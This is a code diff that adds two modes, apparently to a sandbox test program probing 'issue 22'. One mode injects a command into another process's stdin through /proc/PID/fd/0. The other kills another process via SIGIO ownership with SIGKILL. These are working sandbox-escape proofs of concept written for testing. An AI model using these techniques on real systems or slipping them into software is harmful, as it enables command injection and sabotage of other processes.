@@ -187,6 +187,42 @@ int main(int argc, char **argv) {
 		close(p[0]);
 		return waitpid(mid, 0, 0) == mid ? 0 : 1;
 	}
+	if (!strcmp(mode, "inject")) {
+		// Writes argv[4] and a newline into the stdin of process argv[3]
+		// through /proc/PID/fd/0 (issue 22, hole 1): when that is a pipe
+		// a shell outside the run reads commands from, the shell runs it.
+		// Needs only openat and write. Prints what the open did.
+		if (argc < 5)
+			return 2;
+		char path[64];
+		snprintf(path, sizeof path, "/proc/%s/fd/0", argv[3]);
+		int fd = open(path, O_WRONLY);
+		printf("inject open %s: %s\n", path, fd < 0 ? strerror(errno) : "ok");
+		if (fd >= 0) {
+			dprintf(fd, "%s\n", argv[4]);
+			close(fd);
+		}
+		new_syscall();
+		return 0;
+	}
+	if (!strcmp(mode, "sigio")) {
+		// Kills process argv[3] without kill(2) (issue 22, hole 2): the
+		// owner of a pipe's read end set to it, the signal for "I/O
+		// possible" set to SIGKILL, then a write. Prints what F_SETOWN did.
+		if (argc < 4)
+			return 2;
+		int p[2];
+		if (pipe(p) != 0)
+			return 1;
+		int rc = fcntl(p[0], F_SETOWN, atoi(argv[3]));
+		printf("sigio F_SETOWN %s: %s\n", argv[3], rc < 0 ? strerror(errno) : "ok");
+		fcntl(p[0], F_SETSIG, SIGKILL);
+		fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK);
+		if (write(p[1], "x", 1) != 1)
+			return 1;
+		new_syscall();
+		return 0;
+	}
 	if (!strcmp(mode, "tiocsti")) {
 		// Pushes a command line into the input of the terminal on fd 0
 		// (issue 22): were that the caller's shell's terminal, the line
